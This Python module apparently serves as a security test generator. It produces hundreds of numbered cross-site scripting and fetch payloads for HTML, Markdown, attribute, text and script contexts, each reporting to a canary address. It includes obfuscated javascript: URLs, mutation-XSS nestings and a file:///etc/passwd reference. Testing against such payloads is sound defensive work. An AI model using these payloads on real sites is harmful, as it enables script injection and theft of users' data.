"""Words that run or fetch something where a page takes them for markup, made of a small grammar.

Each has a number of its own. Where it runs it sets ``window.__ran`` to that number and fetches ``window.__canary`` with
the number after it; what fetches without running has the same address in full. So whoever listens can tell which it
was. The families are named after the careless page that
each is written for: one that shows words as HTML, as Markdown without rules, inside of an attribute, of an element
that holds nothing but text, or of a script.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, product
from typing import Final


@dataclass(frozen=True)
class Payload:
    number: int
    family: str  # html, markdown, attribute, text or script
    words: str


# In what follows RUN stands for what is run and HIT for what is fetched; neither has spaces, quotes or ">".
IMAGE: Final = '<img src=x onerror="RUN">'

# Elements that run something by themselves or at a touch, and the event at which they do.
EVENTS: Final = (
    ("img src=x", "error"), ("image src=x", "error"), ("img srcset=HIT", "load"), ("svg", "load"), ("body", "load"),
    ("video src=x", "error"), ("audio src=x", "error"), ("video poster=HIT controls", "click"), ("iframe", "load"),
    ("object data=x", "error"), ("embed src=x", "load"), ("link rel=stylesheet href=HIT", "load"), ("math", "click"),
    ("script src=HIT", "load"), ("style", "load"), ("details open", "toggle"), ("input autofocus", "focus"),
    ("select autofocus", "focus"), ("textarea autofocus", "focus"), ("button popovertarget=x", "click"),
    ("p tabindex=0 autofocus", "focus"), ("a href=#x", "mouseover"), ("x-y contenteditable", "input"),
    ("form", "submit"), ("dialog open", "close"), ("marquee", "start"), ("div draggable=true", "dragstart"),
    ("b style=animation:x", "animationstart"), ("p style=transition:1s", "transitionend"), ("p", "pointerrawupdate"),
    ("input type=image src=HIT", "error"), ("bgsound src=HIT", "load"), ("table background=HIT", "wheel"),
    ("div hidden=until-found", "beforematch"), ("track src=x default", "error"),
)  # fmt: skip

# The ways to write one, after the plain one.
WRITINGS: Final = (
    "<{0} on{1}='&#119;&#x69ndow.RUN'>", "<<{0} on{1}=RUN//><!--", "<{0}\n\tON{1}\f=\r\n\\u0077indow.RUN\t>",
    "<{0}\t/on{1}=RUN\tx", "&lt;<{0} x=`'\" on{1}=RUN>`>",
)  # fmt: skip

# Addresses that are scripts, or lead where no speech may lead.
ADDRESSES: Final = (
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "&#106;avascript&colon;RUN",
    "data:text/html,<script>RUN</script>", "javascript://x.example/%0aRUN", " \n\tjavascript:RUN", "java\nscript:RUN",
    "javascript\r\n:RUN", "\x01javascript:RUN", "\u00a0javascript:RUN", "&#x6A&#x61vascript:RUN",
    "java&Tab;script&NewLine;:RUN", "javascript:/*https://x.example/*/RUN", "java\u017fcript:RUN",
    "java\u200bscript:RUN", "\u202ejavascript:RUN", "\ufeffjavascript:RUN", "j\\avascript:RUN", "javascript%3ARUN",
    "\uff4aavascript:RUN", "vbscript:RUN", "livescript:RUN", "feed:javascript:RUN", "blob:null/RUN",
    "view-source:javascript:RUN", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:,RUN",
    "data:image/svg+xml,<svg/onload=RUN>", "filesystem:HIT", "file:///etc/passwd", "//x.example/x", "/api/debates",
    "?topic=x",
)  # fmt: skip
# Those that are tried everywhere, not only in a plain link.
FEW: Final = ADDRESSES[:6]

LINKS: Final = (
    "[words]({0})", "![words]({0})", "<{0}>", "[words](<{0}> 'title')", "[words][x]\n\n[x]: {0}",
    "[![words]({0})]({0})",
)  # fmt: skip
PLACES: Final = (
    '<a href="{0}">words</a>', "<iframe src='{0}'>", '<form action="{0}"><button>words',
    '<form><button formaction="{0}">', '<svg><a xlink:href="{0}"><text>words',
)  # fmt: skip

# Where in Markdown an element can stand, or half of one.
MARKDOWN: Final = (
    "`{0}`", "```html\n{0}\n```", "```\n{0}", "``` {0}\nx\n```", "    {0}", "|{0}|\n|---|\n|{0}|\n", "- [x] {0}",
    "# {0}", "1. {0}", "> {0}", "**{0}", "~~{0}~~", "$${0}$$", "\\({0}\\)", "[{0}](https://x.example)",
    "![{0}](https://x.example)", "[words](https://x.example '{0}')", "[words]({0})", "[words](<{0}", "<br{0}",
    "<!-- --> {0}", "\\{0}", "&lt;b&gt; {0}", "https://x.example/{0}", "https://x.example/\"'{0}",
    "[words](https://x.example/\"'{0})", "[{0}]: HIT\n\n[{0}]", "<https://x.example/{0}>", "![](HIT)",
    "![words][x]\n\n[x]: HIT", "[words](https://x.example\"onmouseover=\"RUN)",
)  # fmt: skip

# What opens another language inside of HTML.
NESTED: Final = (
    "<script>RUN</script>", "<script>RUN", "<SCRIPT\n>RUN</SCRIPT\t>", "<script type=module>RUN</script>",
    "<svg><script>RUN</script>", '<script type=speculationrules>{"prerender":[{"urls":["HIT"]}]}</script>',
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:RUN /><text>words",
    "<svg><use href='data:image/svg+xml,<svg id=x>#x'>", "<svg><foreignObject>{0}</foreignObject>",
    "<svg><style>{0}</style>", "<svg></p><style><a id='</style>{0}'>", "<math><mtext><table><mglyph><style>{0}",
    "<math><annotation-xml encoding=text/html>{0}", "<template>{0}</template>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}", "<math><maction actiontype=statusline xlink:href=HIT>",
    "<div><template shadowrootmode=open>{0}</template></div>", "<noscript><p title='</noscript>{0}'>",
    '<iframe srcdoc="<img src=x onerror=parent.RUN>">', "<iframe srcdoc='&lt;script&gt;parent.RUN&lt;/script&gt;'>",
    "<xmp></xmp>{0}", "<plaintext>{0}", "<!-->{0}-->", "<![CDATA[{0}]]>", "<?xml-stylesheet href=HIT?>{0}", "</br/>{0}",
    "<x is=img src=x onerror=RUN>{0}", "<i\x00mg src=x onerror=RUN>{0}", "\ufeff\u200b<img\u2028src=x onerror=RUN>{0}",
    "\u202e>NUR=rorreno x=crs gmi<\u202c{0}", "<\u0131mg src=x><\u017fcript>RUN</\u017fcript>{0}",
    "\U0001f600\uf8a0\uf8a1{0}\uf8a2", "\uff1cimg src=x onerror=RUN\uff1e{0}", "%3Cimg src=x onerror=RUN%3E{0}",
    "\u003cimg src=x onerror=RUN\u003e\u0085{0}",
)  # fmt: skip

# What fetches without a script.
FETCHING: Final = (
    "<img src=HIT>", "<img src='HIT", "<img srcset='HIT 1x'>", "<picture><source srcset=HIT><img>",
    "<script src=HIT></script>", "<svg><script href=HIT />", "<svg><image href=HIT>",
    "<svg><filter><feImage href=HIT></filter>", "<iframe src=HIT></iframe>", "<frameset><frame src=HIT>",
    "<video poster=HIT>", "<video src=HIT>", "<audio><source src=HIT></audio>", "<embed src=HIT>",
    "<object data=HIT></object>", "<link rel=stylesheet href=HIT>", "<link rel=preconnect href=HIT>",
    "<link rel=icon href=HIT>", "<link rel=dns-prefetch href=HIT>", "<link rel=prefetch href=HIT>",
    "<link rel=preload as=image href=HIT>", "<link rel=modulepreload href=HIT>", "<link rel=manifest href=HIT>",
    "<meta http-equiv=refresh content='0;url=HIT'>", "<base href=HIT><a href=x>words</a>",
    "<object data=javascript:RUN>", "<math href=javascript:RUN>words", "<a href=#x ping=HIT>words</a>",
    "<a href=HIT target=_self>words</a>", "<form action=HIT><button autofocus>words</button></form>",
    "<input type=image src=HIT>", "<body background=HIT>", "<style>@import'HIT';</style>",
    "<style>body{background:url(HIT)}</style>", "<p style=background:url(HIT)>words",
    "<style>@font-face{font-family:x;src:url(HIT)}*{font-family:x}</style>", "<li style='list-style:url(HIT)'>words",
    "<p style='background:image-set(\"HIT\" 1x)'>words", "<p style='--x:url(HIT);background:var(--x)'>words",
)  # fmt: skip

# How to leave an attribute, an element that holds nothing but text, and a script's string.
ATTRIBUTE: Final = (
    '">{0}', '"/>{0}', '\'>"<{0}', '" autofocus onfocus=RUN x="', '" style=animation:x onanimationstart=RUN x="',
    '`">{0}', '&quot;">{0}', '\\">{0}',
)  # fmt: skip
TEXT: Final = (
    "</title>{0}", "</TITLE\n>{0}", "</title/x>{0}", "--></title>{0}", "]]></title>{0}", "</textarea></title>{0}",
    "</script></title>{0}", "</style></noscript></title>{0}", "</xmp></template></option></select></title>{0}",
)  # fmt: skip
SCRIPT: Final = (
    "${RUN}", "${`${RUN}`}", "`;RUN;`", "`+RUN+`", "\\\\`;RUN;//", "${RUN}</script>",
    "{{constructor.constructor('RUN')()}}${RUN}", "#{RUN}${RUN}", "<%= RUN %>${RUN}", "*/${RUN}/*",
    "\u2028${RUN}\u2029",
)  # fmt: skip


def _templates() -> Iterator[tuple[str, str]]:
    """Family and words, with ``RUN`` and ``HIT`` in them."""
    writings = cycle(WRITINGS)
    for tag, event in EVENTS:
        yield "html", f'<{tag} on{event}="RUN">'
        yield "html", next(writings).format(tag, event)
        yield "html", next(writings).format(tag, event)
    for template in NESTED + FETCHING:
        yield "html", template
    for place, address in product(PLACES, FEW):
        yield "html", place.replace("{0}", address)
    for address in ADDRESSES:
        yield "markdown", LINKS[0].replace("{0}", address)
    for link, address in product(LINKS[1:], FEW):
        yield "markdown", link.replace("{0}", address)
    for family, ways in (("markdown", MARKDOWN), ("attribute", ATTRIBUTE), ("text", TEXT), ("script", SCRIPT)):
        for way in ways:
            yield family, way


def payloads(canary: str) -> list[Payload]:
    """All of them, which tell of themselves at this address."""
    made = list[Payload]()
    for number, (family, template) in enumerate(_templates(), 1):
        hit = f"{canary}/{number}"
        run = f"window.__ran={number},fetch(window.__canary+{number})"
        words = template.replace("{0}", IMAGE).replace("RUN", run).replace("HIT", hit)
        made.append(Payload(number, family, words))
    return made
